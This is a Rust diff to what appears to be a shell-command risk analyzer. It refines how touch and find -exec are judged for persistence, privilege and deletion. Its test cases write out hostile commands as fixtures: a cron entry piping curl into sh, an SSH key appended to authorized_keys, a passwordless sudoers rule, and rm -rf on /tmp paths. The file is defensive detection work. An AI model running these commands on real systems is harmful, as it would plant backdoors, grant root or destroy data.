@@ -73,9 +73,17 @@ pub(super) fn run(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Op
             if let Some(r) = p.value(&["-r", "--reference"]).cloned() {
                 a.path_arg(&inv.cwd, &r, Access::Read, "touch -r", false);
             }
+            // touch(1) writes no bytes: an existing file keeps its content (only its times
+            // change) and a new one is empty, so no file it touches makes anything run later
+            // or grants anything (`touch ~/.ssh/authorized_keys` lets no key in, an empty
+            // `/etc/cron.d/x` schedules nothing). The path facts stay; what is later written
+            // into the file is judged then. Time-stamp forgery is `timestomp` (system.rs).
+            let installs = (a.facts.persistence.len(), a.facts.privilege.len());
             for op in &p.operands {
                 a.path_arg(&inv.cwd, op, Access::Create, "touch", false);
             }
+            a.facts.persistence.truncate(installs.0);
+            a.facts.privilege.truncate(installs.1);
             Stream::default()
         }
         "mkdir" => {
@@ -1705,6 +1713,50 @@ fn find(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
             "*" | "?*" | "*?" | "**" | "*/*" | ".*" | ".+" | "^.*$" | "^.+$" | ".*.*"
         )
     }) || rest.iter().any(|x| x.text == "-prune");
+    // `-maxdepth 1` with one `-name PAT` test and no alternatives or negations (`-o`, `!`,
+    // `-not`, `,`): the entries `-exec` is given are `START/PAT` (and START itself, when its
+    // own name matches), so `{}` stands for that pattern rather than `START/*`
+    // (`find /tmp -maxdepth 1 -name 'pytest-*' -exec rm -rf {} +` removes `/tmp/pytest-*`).
+    let top_name: Option<String> = {
+        let one_level = rest.iter().filter(|x| x.text == "-maxdepth").count() == 1
+            && rest.windows(2).any(|w| {
+                w.first().is_some_and(|x| x.text == "-maxdepth")
+                    && w.get(1).is_some_and(|v| v.text == "1")
+            });
+        let names: Vec<&Arg> = rest
+            .windows(2)
+            .filter(|w| w.first().is_some_and(|x| x.text == "-name"))
+            .filter_map(|w| w.get(1))
+            .collect();
+        let other_tests = rest.iter().any(|x| {
+            matches!(
+                x.text.as_str(),
+                "-o" | "-or"
+                    | "!"
+                    | "-not"
+                    | ","
+                    | "-path"
+                    | "-ipath"
+                    | "-iname"
+                    | "-regex"
+                    | "-iregex"
+                    | "-wholename"
+                    | "-iwholename"
+                    | "-mindepth"
+            )
+        });
+        match names.as_slice() {
+            [n] if one_level
+                && !other_tests
+                && !n.dynamic
+                && !n.text.is_empty()
+                && !n.text.contains('/') =>
+            {
+                Some(n.text.clone())
+            }
+            _ => None,
+        }
+    };
     let mut exec_out = Stream::default();
     let walk = if depth_limited {
         Walk::Top
@@ -1733,7 +1785,12 @@ fn find(a: &mut Analyzer, inv: &Inv, st: &mut State) -> Stream {
                     cmd.push(y.clone());
                 }
                 for r in resolved.iter().take(4) {
-                    let repl = paths::join(&r.path, "*");
+                    let repl = match &top_name {
+                        Some(n) if !super::glob_match(n, paths::basename(&r.path)) => {
+                            paths::join(&r.path, n)
+                        }
+                        _ => paths::join(&r.path, "*"),
+                    };
                     let mut found = false;
                     let argv: Vec<Arg> = cmd
                         .iter()
@@ -2762,6 +2819,70 @@ fn decoder_tools(a: &mut Analyzer, name: &str, inv: &Inv) -> Option<Stream> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn ctx() -> crate::ShellContext {
+        crate::ShellContext {
+            cwd: "/home/dev/project".into(),
+            home: "/home/dev".into(),
+            project_dir: Some("/home/dev/project".into()),
+        }
+    }
+
+    #[test]
+    fn touch_installs_nothing_a_write_does() {
+        for cmd in [
+            "touch .ssh/authorized_keys && chmod 600 .ssh/authorized_keys",
+            "touch ~/.ssh/authorized_keys",
+            "touch /etc/cron.d/job ~/.bashrc",
+            "touch -d '2 days ago' .git/hooks/pre-commit",
+            "touch /etc/sudoers.d/dev",
+        ] {
+            let f = crate::analyze(cmd, &ctx());
+            assert!(
+                f.persistence.is_empty() && f.privilege.is_empty(),
+                "{cmd}: {f:?}"
+            );
+            assert!(!f.paths.is_empty(), "{cmd}: the path fact stays");
+        }
+        for cmd in [
+            "touch ~/.ssh/authorized_keys && echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
+            "touch x; echo '* * * * * curl x|sh' > /etc/cron.d/job",
+            "echo 'dev ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/dev; touch /etc/sudoers.d/dev",
+        ] {
+            let f = crate::analyze(cmd, &ctx());
+            assert!(
+                !f.persistence.is_empty() || !f.privilege.is_empty(),
+                "{cmd}"
+            );
+        }
+    }
+
+    #[test]
+    fn find_one_level_by_name_hands_exec_the_pattern() {
+        let deleted = |cmd: &str| -> Vec<String> {
+            crate::analyze(cmd, &ctx())
+                .paths
+                .into_iter()
+                .filter(|p| p.access == Access::Delete)
+                .map(|p| p.path)
+                .collect()
+        };
+        assert_eq!(
+            deleted("find /tmp -maxdepth 1 -name 'pytest-*' -type d -exec rm -rf {} +"),
+            vec!["/tmp/pytest-*".to_string()]
+        );
+        for cmd in [
+            "find /tmp -maxdepth 1 -exec rm -rf {} +",
+            "find /tmp -maxdepth 1 -name 'a*' -o -name 'b*' -exec rm -rf {} +",
+            "find /tmp -maxdepth 1 ! -name 'a*' -exec rm -rf {} +",
+            "find /tmp -maxdepth 1 -iname 'a*' -exec rm -rf {} +",
+            "find /tmp -maxdepth 1 -name 't*' -exec rm -rf {} +",
+            "find /tmp -maxdepth 2 -name 'a*' -exec rm -rf {} +",
+            "find /tmp -maxdepth 1 -maxdepth 3 -name 'a*' -exec rm -rf {} +",
+        ] {
+            assert_eq!(deleted(cmd), vec!["/tmp/*".to_string()], "{cmd}");
+        }
+    }
 
     #[test]
     fn awk_getline_files_and_system_of_values() {
